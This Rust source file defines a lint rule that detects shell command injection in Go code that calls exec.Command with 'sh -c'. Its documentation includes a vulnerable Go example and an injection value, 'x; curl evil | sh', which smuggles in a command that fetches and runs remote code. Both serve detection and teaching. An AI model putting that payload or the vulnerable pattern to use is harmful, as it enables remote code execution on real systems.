//! SEC005: Go `exec.Command("sh", "-c", cmd)` with a command built at run time.

use qa_core::Language;
use tree_sitter::Node;

use crate::lang::Call;
use crate::rules::security::common::shell_command_arg;
use crate::rules::{Cx, Hooks, Rule, RuleMeta, declare_rule};

declare_rule! {
    id: "SEC005",
    name: "go-shell-command",
    family: Security,
    severity: High,
    languages: &[Language::Go],
    title: "Command built at run time is run through a shell with exec.Command",
    applies_to_tests: false,
    docs: r#"## What it does
Finds `exec.Command` and `exec.CommandContext` calls that start a shell (`sh`, `bash`,
`zsh`, `/bin/sh`, `cmd`, `cmd.exe`, `powershell`...) with `-c` (or `/c`) followed by an
argument that is not a fixed string.

## Why is this bad?
`exec.Command` is safe by design because it runs one program with an argument vector and
no shell. Wrapping the command in `sh -c` gives that up: the shell interprets quotes, `;`,
`&&`, `|`, `$(...)` and backticks in the value, so a file name or branch such as
`x; curl evil | sh` runs extra commands.

## How to fix
Run the program directly, passing each value as its own argument:
`exec.Command("git", "log", branch)`. If you need a pipeline, build it with two
`exec.Cmd`s connected through `StdoutPipe`, or pass the values as positional parameters
(`sh -c 'grep "$1" "$2"' sh pattern file`) so the shell never parses them.

## Example
```go
cmd := exec.Command("sh", "-c", "grep "+pattern+" "+file)
```
Use instead:
```go
cmd := exec.Command("grep", "--", pattern, file)
```
"#,
}

pub(crate) struct GoShellCommand;

impl Rule for GoShellCommand {
    fn meta(&self) -> &'static RuleMeta {
        &META
    }

    fn hooks(&self) -> Hooks {
        Hooks::CALL
    }

    fn on_call(&self, call: &Call<'_>, cx: &mut Cx<'_, '_>) {
        let skip = match call.callee.as_str() {
            "exec.Command" => 0,
            "exec.CommandContext" => 1,
            _ => return,
        };
        let args: Vec<Node> = call.args.iter().skip(skip).map(|a| a.value).collect();
        if let Some(cmd) = shell_command_arg(cx, &args) {
            cx.report(
                cmd,
                format!(
                    "`{}` runs a command built at run time through a shell; run the program directly with each value as its own argument",
                    call.callee
                ),
            );
        }
    }
}
